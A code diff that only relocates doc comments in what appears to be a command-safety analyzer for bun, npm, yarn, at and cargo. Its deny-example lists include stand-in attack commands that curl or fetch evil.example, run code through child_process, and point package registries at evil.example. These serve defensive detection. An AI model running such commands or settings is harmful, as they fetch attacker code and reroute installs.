@@ -184,8 +184,6 @@ function nix(): ProgramEntry {
   };
 }
 
-/** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
-
 /** npm's commands (10 and 11) and its aliases (lib/utils/cmd-list.js), as npm looks a command word up. */
 const NPM_COMMANDS = new Set(
   (
@@ -256,6 +254,7 @@ const NPM_VIEW = {
   more: (call: Call, answer: Partial<Answer>): Partial<Answer> => ({ ...answer, uses: [...(answer.uses ?? []), ...call.args.map((word) => ({ word, role: 'text' as const }))] }),
 };
 
+/** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
 function bun(): ProgramEntry {
   const runner = subcommandRunner(['bun'], 'bun x / bun exec; -e/--eval and -p/--print CODE, run - (stdin)', { x: PACKAGE_RUN, exec: { operandsScript: true } }, {
     deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`, `echo 'fetch("https://evil.example")' > a.ts && bun a.ts`, `echo 'fetch("https://evil.example")' > a.js; bun run ./a.js`],
@@ -330,7 +329,6 @@ function commandAnywhere(entry: ProgramEntry): ProgramEntry {
   };
 }
 
-/** `npm config set script-shell …` (and `npm set`, `config edit`, `config fix`) writes ~/.npmrc, which npm reads at every start. */
 /**
  * `yarn config set KEY VALUE` of a key naming where packages come from or a program yarn runs: Yarn 1 keeps it in
  * ~/.yarnrc, Yarn 2+ in a .yarnrc.yml (the home's with -H), which every later install reads.
@@ -341,6 +339,7 @@ const YARN_CONFIG = {
   examples: { deny: ['yarn config set registry https://evil.example/', 'yarn config set npmRegistryServer https://evil.example/'], pass: ['yarn config get registry', 'yarn config set init-license MIT'] },
 };
 
+/** `npm config set script-shell …` (and `npm set`, `config edit`, `config fix`) writes ~/.npmrc, which npm reads at every start. */
 const NPM_CONFIG = {
   file: '~/.npmrc',
   // Keys that name a program npm runs or where packages come from; `init-author-name` and the like only fill in defaults.
@@ -1236,7 +1235,6 @@ function parallel(call: Call): Partial<Answer> {
   return { runs };
 }
 
-/** at and batch queue shell text read from stdin, or from the file -f names; -l, -r, -c only list, remove or print jobs. */
 /** What a timespec of Unix at is made of (`now + 1 hour`, `10am tomorrow`, `noon Jul 31`, `12:00 2026-07-31`). */
 const AT_TIMESPEC = /^(?:now|noon|midnight|teatime|today|tomorrow|next|am|pm|utc|\+|[+-]?\d[\d:./-]*(?:am|pm)?|\d+(?:min(?:ute)?s?|hours?|days?|weeks?|months?|years?)?|(?:min(?:ute)?|hour|day|week|month|year)s?|(?:jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec)[a-z]*,?|(?:mon|tue|wed|thu|fri|sat|sun)[a-z]*,?)$/i;
 
@@ -1259,6 +1257,7 @@ function windowsAt(call: Call): Partial<Answer> | undefined {
   return { runs: [{ kind: 'script', dialect: 'cmd', words: text, via: 'at' }], persists: [{ word: text[0]!, why: 'at schedules its command to run later (a scheduled task)' }] };
 }
 
+/** at and batch queue shell text read from stdin, or from the file -f names; -l, -r, -c only list, remove or print jobs. */
 function at(call: Call): Partial<Answer> {
   const windows = call.program === 'at' ? windowsAt(call) : undefined;
   if (windows) return windows;
@@ -2169,7 +2168,6 @@ const CARGO_PROGRAM_KEY = /^(?:target\.(?:[^.]+|'[^']*'|"[^"]*")\.(?:runner|link
 /** The same settings in the environment. */
 const CARGO_PROGRAM_ENV = /^(?:CARGO_TARGET_.+_(?:RUNNER|LINKER)|CARGO_HOST_LINKER|RUSTC|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTDOC|CARGO_BUILD_RUSTC(?:_WRAPPER|_WORKSPACE_WRAPPER)?|CARGO_BUILD_RUSTDOC|CARGO_REGISTRY_CREDENTIAL_PROVIDER|CARGO_REGISTRIES_.+_CREDENTIAL_PROVIDER|CARGO_CREDENTIAL_ALIAS_.+)$/i;
 
-/** cargo --config KEY=VALUE (anywhere before `--`) and CARGO_TARGET_*_RUNNER-like variables name programs it runs. */
 /**
  * A toolchain directory (`rustup toolchain link NAME DIR`, `cargo +DIR`, RUSTUP_TOOLCHAIN=DIR): rustup's proxies
  * (cargo, rustc, rustdoc…) run the programs of its bin/. A file the line wrote there is code on the line; others are
@@ -2199,6 +2197,7 @@ function rustup(call: Call): Partial<Answer> {
   return {};
 }
 
+/** cargo --config KEY=VALUE (anywhere before `--`) and CARGO_TARGET_*_RUNNER-like variables name programs it runs. */
 function cargo(call: Call): Partial<Answer> {
   const runs: Run[] = [];
   const reroutesOut: Destination[] = [];
